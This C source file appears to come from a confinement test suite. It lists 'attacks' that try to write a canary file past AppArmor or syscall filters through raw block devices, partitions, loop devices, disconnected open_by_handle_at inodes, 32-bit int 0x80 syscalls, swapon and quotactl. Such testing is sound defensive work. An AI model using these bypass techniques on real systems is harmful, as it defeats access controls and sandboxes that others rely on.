/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Attacks on a file by way of the disk that it lies on: the blocks below it, devices that are made of it,
 * names that only a file system with blocks gives, and what the kernel itself writes to files. The structures are
 * those of the kernel's headers, which musl does not bring.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/quota.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "attack.h"
#include "guest.h"

#define NO_MODULE "the driver is a module, and this image has none: "
/* linux/blkpg.h */
#define CHANGE_PARTITION _IO(0x12, 105)
#define ADD_PARTITION 1
#define DELETE_PARTITION 2
#define PARTITION_START 4096
/* linux/fs.h */
#define GET_DISK_SIZE _IOR(0x12, 114, size_t)
#define GET_BLOCK _IO(0x00, 1)
#define GET_BLOCK_SIZE _IO(0x00, 2)
#define LOOP_SET_FD 0x4C00
#define LOOP_CLR_FD 0x4C01
#define LOOP_SET_DIRECT_IO 0x4C08
#define LOOP_CTL_GET_FREE 0x4C82
#define QUOTA_FORMAT 4 /* QFMT_VFS_V1 */
/* arch/x86/entry/syscalls/syscall_32.tbl */
#define QUOTACTL_32 131
#define OPEN_BY_HANDLE_32 342
#define DROP_CACHES "/proc/sys/vm/drop_caches"

static bool no_disk(void)
{
	return access(DISK_CANARY, F_OK) < 0;
}

static int without_disk(void)
{
	return impossible(ENXIO, NO_MODULE "CONFIG_BLK_DEV_RAM=m");
}

/* The block of the file, by its own file system; one of that size is written anew. `disk` may begin behind its start. */
static int write_block(int file, int disk, off_t begin)
{
	char block[65536] = ESCAPED_WORD;
	int number = 0, size = 0;

	if (ioctl(file, GET_BLOCK_SIZE, &size) < 0 || ioctl(file, GET_BLOCK, &number) < 0)
		return errno;
	if (number <= 0 || size <= 0 || (size_t)size > sizeof(block))
		return EINVAL;
	if (pwrite(disk, block, (size_t)size, (off_t)number * size - begin) < 0 || fsync(disk) < 0)
		return errno;
	return 0;
}

static int run_disk(void)
{
	int file, disk;

	if (no_disk())
		return without_disk();
	disk = open_node(S_IFBLK, DISK_MAJOR, DISK_MINOR, O_RDWR);
	if (disk < 0)
		return -disk;
	file = open(DISK_CANARY, O_RDONLY | O_CLOEXEC);
	return file < 0 ? errno : write_block(file, disk, 0);
}

/* A partition, or its end, by a descriptor of the whole disk, for which one to read is enough. */
static int change_partition(int disk, int change)
{
	struct {
		long long start, length;
		int number;
		char names[128];
	} part = { .start = PARTITION_START, .number = 1 };
	struct {
		int op, flags, size;
		void *data;
	} request = { .op = change, .size = sizeof(part), .data = &part };
	uint64_t size;

	if (ioctl(disk, GET_DISK_SIZE, &size) < 0)
		return errno;
	part.length = (long long)size - PARTITION_START;
	return ioctl(disk, CHANGE_PARTITION, &request) < 0 ? errno : 0;
}

static int write_partition(void)
{
	unsigned int major, minor;
	char text[40] = "";
	int file, node;

	if (read_small("/sys/block/ram0/ram0p1/dev", text, sizeof(text)) < 0 ||
	    sscanf(text, "%u:%u", &major, &minor) != 2)
		return ENOENT;
	(void)unlink("node");
	node = open_node(S_IFBLK, major, minor, O_RDWR);
	if (node < 0)
		return -node;
	file = open(DISK_CANARY, O_RDONLY | O_CLOEXEC);
	return file < 0 ? errno : write_block(file, node, PARTITION_START);
}

/* block/bdev.c counts who writes to a block device, and a partition is one of its own, on the same blocks. */
static int run_partition(void)
{
	int disk, err;

	if (no_disk())
		return without_disk();
	disk = open_node(S_IFBLK, DISK_MAJOR, DISK_MINOR, O_RDONLY);
	if (disk < 0)
		return -disk;
	err = change_partition(disk, ADD_PARTITION);
	if (!err)
		err = write_partition();
	(void)change_partition(disk, DELETE_PARTITION);
	return err;
}

/* A loop device that nobody has: its number, or -errno. */
static int free_loop(void)
{
	int control = open_node(S_IFCHR, 10, 237, O_RDWR), number;

	if (control < 0)
		return control;
	number = ioctl(control, LOOP_CTL_GET_FREE);
	(void)close(control);
	return number < 0 ? -errno : number;
}

static int write_loop(int loop, int file, bool direct)
{
	static char sector[8192] __attribute__((aligned(4096))) = ESCAPED_WORD;
	int no = 0, err = 0;

	if (ioctl(loop, LOOP_SET_FD, file) < 0)
		return errno;
	/* a file that is open to read only makes the device one of that kind, which is only a word of its own */
	if (ioctl(loop, BLKROSET, &no) < 0 ||
	    (direct && ioctl(loop, LOOP_SET_DIRECT_IO, 1UL) < 0) ||
	    pwrite(loop, sector, 512, 0) < 0 || fsync(loop) < 0)
		err = errno;
	(void)ioctl(loop, LOOP_CLR_FD);
	return err;
}

/* The kernel's own thread writes, by what it has been given: open to write, where that is allowed. */
static int run_loop_over(const char *path, bool direct)
{
	int number = free_loop(), file, loop;

	if (number == -ENODEV || number == -ENXIO)
		return impossible(-number, NO_MODULE "CONFIG_BLK_DEV_LOOP=m");
	if (number < 0)
		return -number;
	(void)unlink("node");
	loop = open_node(S_IFBLK, 7, (unsigned int)number, O_RDWR);
	if (loop < 0)
		return -loop;
	file = open(path, O_RDWR | O_CLOEXEC);
	if (file < 0)
		file = open(path, O_RDONLY | O_CLOEXEC);
	return file < 0 ? errno : write_loop(loop, file, direct);
}

/* A sector at least: what is shorter has no device. */
static int run_loop(void)
{
	return no_disk() ? without_disk() : run_loop_over(DISK_SWAP, false);
}

static int run_loop_direct(void)
{
	return no_disk() ? without_disk() : run_loop_over(DISK_SWAP, true);
}

/*
 * As a 32-bit program calls the kernel: by numbers of its own, so that a filter of system calls has to know both. -errno.
 * What it points to has to lie below 4 GiB.
 */
static long call_32(long number, long a, const void *b, long c, const void *d)
{
#if defined(__x86_64__)
	long result;

	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(number), "b"(a), "c"(b), "d"(c), "S"(d)
			 : "memory", "r8", "r9", "r10", "r11");
	return (int)result;
#else
	(void)number, (void)a, (void)b, (void)c, (void)d;
	return -impossible(ENOSYS, "32-bit calls are tried on x86 only");
#endif
}

static const void *put_low(const void *from, size_t size)
{
#if defined(__x86_64__)
	void *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	return low == MAP_FAILED ? NULL : memcpy(low, from, size);
#else
	(void)size;
	return from;
#endif
}

/*
 * fs/exportfs/expfs.c: whoever opens an inode whose name is not in memory gets one without a path, if the caller does not
 * want it connected. AppArmor's name for that is "/". A descriptor or -errno.
 */
static int open_disconnected(int flags, bool as_32)
{
	union {
		struct file_handle handle;
		char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} named = { .handle.handle_bytes = MAX_HANDLE_SZ };
	int folder, id, fd;

	folder = open(DISK_FOLDER, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (folder < 0 || name_to_handle_at(AT_FDCWD, DISK_CANARY, &named.handle, &id, 0) < 0)
		return -errno;
	sync();
	if (write_small(DROP_CACHES, "2"))
		return -EPERM;
	if (as_32)
		return (int)call_32(OPEN_BY_HANDLE_32, folder, put_low(&named, sizeof(named)),
				    flags | O_CLOEXEC, NULL);
	fd = open_by_handle_at(folder, &named.handle, flags | O_CLOEXEC);
	return fd < 0 ? -errno : fd;
}

static int write_disconnected(bool as_32)
{
	int fd;

	if (no_disk())
		return without_disk();
	fd = open_disconnected(O_WRONLY, as_32);
	return fd < 0 ? -fd : write_canary_fd(fd);
}

static int run_disconnected(void)
{
	return write_disconnected(false);
}

static int run_disconnected_32(void)
{
	return write_disconnected(true);
}

/* A second name, which nobody protects. */
static int run_disconnected_link(void)
{
	char path[40];
	int fd;

	if (no_disk())
		return without_disk();
	fd = open_disconnected(O_RDONLY, false);
	if (fd < 0)
		return -fd;
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	(void)unlink(DISK_FOLDER "/other");
	if (linkat(AT_FDCWD, path, AT_FDCWD, DISK_FOLDER "/other", AT_SYMLINK_FOLLOW) < 0)
		return errno;
	return write_canary(DISK_FOLDER "/other", O_WRONLY);
}

static int run_disconnected_bind(void)
{
	char path[40];
	int fd, err;

	if (no_disk())
		return without_disk();
	fd = open_disconnected(O_RDONLY, false);
	if (fd < 0)
		return -fd;
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	err = bind_alias(path);
	return err ? err : write_canary("alias", O_WRONLY);
}

/* mm/swapfile.c opens it as the caller, and writes to it from then on. */
static int run_swap(void)
{
	if (no_disk())
		return without_disk();
	return swapon(DISK_SWAP, 0) < 0 ? errno : 0;
}

/*
 * fs/quota/quota.c looks the name up, and nobody is asked for what is written there then: security_quota_on() is
 * no hook of AppArmor.
 */
static int quota_on(bool as_32)
{
	static const char node[] = "node";
	char path[] = DISK_QUOTA;

	if (as_32)
		return -(int)call_32(QUOTACTL_32, (int)QCMD(Q_QUOTAON, USRQUOTA),
				     put_low(node, sizeof(node)), QUOTA_FORMAT,
				     put_low(path, sizeof(path)));
	return quotactl(QCMD(Q_QUOTAON, USRQUOTA), node, QUOTA_FORMAT, path) < 0 ? errno : 0;
}

static int write_quota(bool as_32)
{
	struct dqblk limit = { .dqb_bhardlimit = 1000000, .dqb_valid = QIF_BLIMITS };
	int err;

	if (no_disk())
		return without_disk();
	if (mknod("node", S_IFBLK | 0600, makedev(DISK_MAJOR, DISK_MINOR)) < 0 && errno != EEXIST)
		return errno;
	err = quota_on(as_32);
	if (err)
		return err == ESRCH ? impossible(ESRCH, NO_MODULE "CONFIG_QFMT_V2=m") : err;
	if (quotactl(QCMD(Q_SETQUOTA, USRQUOTA), "node", 12345, (char *)&limit) < 0)
		err = errno;
	if (quotactl(QCMD(Q_QUOTAOFF, USRQUOTA), "node", 0, NULL) < 0)
		err = errno;
	return err;
}

static int run_quota(void)
{
	return write_quota(false);
}

static int run_quota_32(void)
{
	return write_quota(true);
}

const struct attack disk_attacks[] = {
	{ "dev-disk", "blkdev_open() to write, of the disk below the file", NULL, run_disk, 0 },
	{ "dev-disk-partition", "blkdev_open() to write, of a partition that is laid over the disk",
	  NULL, run_partition, 0 },
	{ "dev-loop-control", "lo_ioctl(LOOP_SET_FD) of the file", NULL, run_loop, 0 },
	{ "loop-direct", "lo_ioctl(LOOP_SET_FD) of the file, then LOOP_SET_DIRECT_IO", NULL,
	  run_loop_direct, 0 },
	{ "handle-disconnected", "open_by_handle_at of a file whose name is not in memory", NULL,
	  run_disconnected, 0 },
	{ "handle-disconnected-32", "the same by the number that 32-bit programs have for it", NULL,
	  run_disconnected_32, 0 },
	{ "handle-disconnected-link", "path_link of such a file", NULL, run_disconnected_link, 0 },
	{ "handle-disconnected-bind", "mount(MS_BIND) of such a file", NULL, run_disconnected_bind,
	  0 },
	{ "swap-file", "open by the kernel, to swap to the file", NULL, run_swap, 0 },
	{ "quota-file", "quotactl(Q_QUOTAON) of the file", NULL, run_quota, 0 },
	{ "quota-file-32", "quotactl(Q_QUOTAON) by the number that 32-bit programs have for it",
	  NULL, run_quota_32, 0 },
	{ .name = NULL },
};
